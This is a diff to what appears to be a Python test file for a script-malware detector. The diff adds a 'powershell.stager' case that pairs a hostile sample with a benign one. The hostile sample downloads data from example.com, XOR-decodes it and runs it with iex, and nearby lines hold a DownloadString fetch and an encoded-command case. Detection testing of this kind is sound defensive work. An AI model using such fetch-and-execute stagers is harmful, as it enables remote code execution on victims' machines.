@@ -5,6 +5,11 @@ FETCH = "(New-Object Net.Web¦Client).Down¦loadString('https://example.com/a')"
 HONEST = "$text = Get-Content .\\list.txt\n$text | ForEach-Object { Write-Output $_ }\n"
 
 CASES = {
+    "powershell.stager": pair(
+        "a.ps1",
+        "$d = $wc.Download¦Data('https://example.com/a')\nie¦x (-join ($d | % { [char]($_ -bx¦or 7) }))\n",
+        "$d = $wc.DownloadData('https://example.com/a')\n[IO.File]::WriteAllBytes('a.bin', $d)\n",
+    ),
     "powershell.encoded_command": pair(
         "a.bat",
         f"powershell -NoProfile -enc {encoded('Get-Date | Out-File C:/now.txt')}\r\n",
